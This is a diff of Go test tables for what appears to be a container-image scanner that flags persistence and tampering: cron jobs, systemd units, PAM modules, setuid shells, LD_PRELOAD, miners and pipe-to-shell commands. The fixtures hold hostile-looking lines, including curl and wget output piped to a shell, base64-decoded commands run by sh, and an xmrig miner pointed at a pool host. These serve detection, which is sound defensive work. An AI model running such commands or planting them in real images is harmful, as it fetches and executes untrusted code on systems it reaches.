@@ -30,29 +30,16 @@ func TestOtherPlacesToHide(t *testing.T) {
 		members []member
 		want    []string
 	}{
-		"keys to log in":                  {[]member{file("root/.ssh/authorized_keys", "ssh-ed25519 A")}, []string{"medium authorized-keys"}},
-		"clockwork":                       {[]member{file("etc/cron.d/backup", "0 1 * * * root /usr/bin/ls\n"), file("var/spool/cron/crontabs/root", "x")}, []string{"low cron", "low cron"}},
-		"clockwork that fetches":          {[]member{file("etc/cron.daily/update", "#!/bin/sh\ncurl -s http://pool.example/x | bash\n")}, []string{"high cron"}},
-		"a comment is no line":            {[]member{file("etc/cron.daily/update", "#!/bin/sh\n# curl -s http://pool.example/x | bash\n")}, []string{"low cron"}},
-		"a unit of a hidden program":      {[]member{exe("var/tmp/.x/a", "#!/bin/sh\n"), file("etc/systemd/system/x.service", "[Service]\nExecStart=/var/tmp/.x/a\n")}, []string{"high unit"}},
-		"a unit":                          {[]member{file("usr/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/ls\n")}, []string{"low unit"}},
-		"a module that decides logins":    {[]member{file("usr/lib/x86_64-linux-gnu/security/pam_x.so", program("pam"))}, []string{"medium pam"}},
-		"rules that decide logins":        {[]member{file("etc/pam.d/sshd", "auth sufficient pam_x.so\n")}, []string{"low pam"}},
-		"a profile that decodes":          {[]member{file("etc/profile.d/x.sh", "echo aGk= | base64 -d | sh\n")}, []string{"medium profile"}},
-		"a profile":                       {[]member{file("root/.bashrc", "alias l=ls\n")}, []string{"info profile"}},
 		"rights of root":                  {[]member{file("etc/sudoers.d/x", "x ALL=NOPASSWD: ALL\n")}, []string{"low sudo"}},
 		"a second root":                   {[]member{file("etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n")}, []string{"medium uid-0"}},
 		"a repository and its key":        {[]member{file("etc/apt/sources.list.d/x.list", "deb x\n"), file("etc/apt/keyrings/x.gpg", "k")}, []string{"info repository", "info repository"}},
 		"a shell with rights of root":     {[]member{exe("usr/bin/bash", program("bash")).WithMode(0o4755)}, []string{"high setuid-shell"}},
-		"libraries where all may write":   {[]member{file("etc/ld.so.conf.d/x.conf", "# x\n/tmp/lib\n")}, []string{"medium ld-so-conf"}},
-		"libraries from a hidden place":   {[]member{file("etc/ld.so.conf.d/x.conf", "/usr/lib/.x\n")}, []string{"medium ld-so-conf"}},
 		"a directory of programs for all": {[]member{dir("usr/local/"), dir("usr/local/bin/").WithMode(0o777)}, []string{"low world-writable"}},
 		"a setting for all":               {[]member{file("etc/app.conf", "x").WithMode(0o666)}, []string{"low world-writable"}},
 		"a device":                        {[]member{special("opt/mem", tar.TypeChar)}, []string{"low device"}},
 		"a device in its place":           {[]member{special("dev/null", tar.TypeChar)}, nil},
 		"a link out of the image":         {[]member{symlink("opt/x", "../../../host/etc")}, []string{"low odd-layer"}},
 		"links that stay":                 {[]member{symlink("opt/x", "../host"), symlink("usr/lib/y", "../../opt/../z"), symlink("z", "/usr/../opt")}, nil},
-		"libraries from another place":    {[]member{file("etc/ld.so.conf.d/x.conf", "/opt/x\n")}, []string{"info ld-so-conf"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			c := newBench(t).examine(t, imageOf(t, v1.Config{}, base, step("RUN x", test.members...)), nil)
@@ -76,29 +63,20 @@ func TestSettingsOfTheConfig(t *testing.T) {
 		step   string
 		want   []string
 	}{
-		"calm":                     {v1.Config{Env: []string{"PATH=/usr/bin", "LD_PRELOAD="}, Entrypoint: []string{"/usr/bin/ls"}}, "", nil},
-		"a library for all":        {v1.Config{Env: []string{"LD_PRELOAD=/lib/x.so"}}, "", []string{"medium env-preload"}},
-		"PATH where all may write": {v1.Config{Env: []string{"PATH=/tmp/bin:/usr/bin"}}, "", []string{"medium env-path"}},
-		"shells and interpreters":  {v1.Config{Env: []string{"BASH_ENV=/x", "NODE_OPTIONS=--require /x.js", "NODE_ENV=production"}}, "", []string{"low env-interpreter", "low env-shell"}},
-		"a command that decodes":   {v1.Config{Cmd: []string{"sh", "-c", "echo aGk= | base64 -d | sh"}}, "", []string{"medium entrypoint-encoded"}},
-		"a health check":           {v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD", "curl", "-f", "http://localhost"}}}, "", []string{"info healthcheck"}},
-		"a health check that fetches": {
-			v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -qO- http://x.example | sh"}}},
-			"",
-			[]string{"medium healthcheck-pipe-to-shell"},
-		},
-		"no health check":        {v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"NONE"}}}, "", nil},
-		"a trigger":              {v1.Config{OnBuild: []string{"RUN make"}}, "", []string{"low on-build"}},
-		"ports":                  {v1.Config{ExposedPorts: map[string]struct{}{"22/tcp": {}, "8080/tcp": {}}}, "", []string{"info port"}},
-		"labels":                 {v1.Config{Labels: map[string]string{"org.opencontainers.image.title": "x", "run": "curl http://x.example | sh", "more": "echo aGk= | base64 -d | sh"}}, "", []string{"medium label-encoded", "medium label-pipe-to-shell"}},
-		"volumes":                {v1.Config{Volumes: map[string]struct{}{"/data": {}, "/usr/bin/": {}}}, "", []string{"low volume"}},
-		"history: an installer":  {v1.Config{}, "RUN /bin/sh -c curl -fsSL https://deb.example/setup | bash -", []string{"low history-pipe-to-shell"}},
-		"history: decoded":       {v1.Config{}, "RUN echo aGk= | base64 -d > /x", []string{"low history-decodes"}},
-		"history: decoded, run":  {v1.Config{}, "RUN echo aGk= | base64 -d | sh", []string{"medium history-encoded"}},
-		"history: a miner":       {v1.Config{}, "RUN ./xmrig -o stratum+tcp://pool.example", []string{"medium history-miner"}},
-		"a secret":               {v1.Config{Env: []string{"PATH=/usr/bin", "NPM_TOKEN=" + value}}, "", []string{"low env-secret"}},
-		"history: a secret":      {v1.Config{}, "|1 NPM_TOKEN=" + value + " /bin/sh -c npm ci", []string{"low history-secret"}},
-		"history: another shape": {v1.Config{}, "RUN cat list | sort | shuf", nil},
+		"calm": {v1.Config{Env: []string{"PATH=/usr/bin", "LD_PRELOAD="}, Entrypoint: []string{"/usr/bin/ls"}}, "", nil},
+		"what starts by itself is listed elsewhere": {v1.Config{Env: []string{"LD_PRELOAD=/lib/x.so"}, Cmd: []string{"sh", "-c", "echo aGk= | base64 -d | sh"}}, "", nil},
+		"PATH where all may write":                  {v1.Config{Env: []string{"PATH=/tmp/bin:/usr/bin"}}, "", []string{"medium env-path"}},
+		"a trigger":                                 {v1.Config{OnBuild: []string{"RUN make"}}, "", []string{"low on-build"}},
+		"ports":                                     {v1.Config{ExposedPorts: map[string]struct{}{"22/tcp": {}, "8080/tcp": {}}}, "", []string{"info port"}},
+		"labels":                                    {v1.Config{Labels: map[string]string{"org.opencontainers.image.title": "x", "run": "curl http://x.example | sh", "more": "echo aGk= | base64 -d | sh"}}, "", []string{"medium label-encoded", "medium label-pipe-to-shell"}},
+		"volumes":                                   {v1.Config{Volumes: map[string]struct{}{"/data": {}, "/usr/bin/": {}}}, "", []string{"low volume"}},
+		"history: an installer":                     {v1.Config{}, "RUN /bin/sh -c curl -fsSL https://deb.example/setup | bash -", []string{"low history-pipe-to-shell"}},
+		"history: decoded":                          {v1.Config{}, "RUN echo aGk= | base64 -d > /x", []string{"low history-decodes"}},
+		"history: decoded, run":                     {v1.Config{}, "RUN echo aGk= | base64 -d | sh", []string{"medium history-encoded"}},
+		"history: a miner":                          {v1.Config{}, "RUN ./xmrig -o stratum+tcp://pool.example", []string{"medium history-miner"}},
+		"a secret":                                  {v1.Config{Env: []string{"PATH=/usr/bin", "NPM_TOKEN=" + value}}, "", []string{"low env-secret"}},
+		"history: a secret":                         {v1.Config{}, "|1 NPM_TOKEN=" + value + " /bin/sh -c npm ci", []string{"low history-secret"}},
+		"history: another shape":                    {v1.Config{}, "RUN cat list | sort | shuf", nil},
 	} {
 		t.Run(name, func(t *testing.T) {
 			c := newBench(t).examine(t, imageOf(t, test.config, base, layerSpec{Step: test.step}), nil)
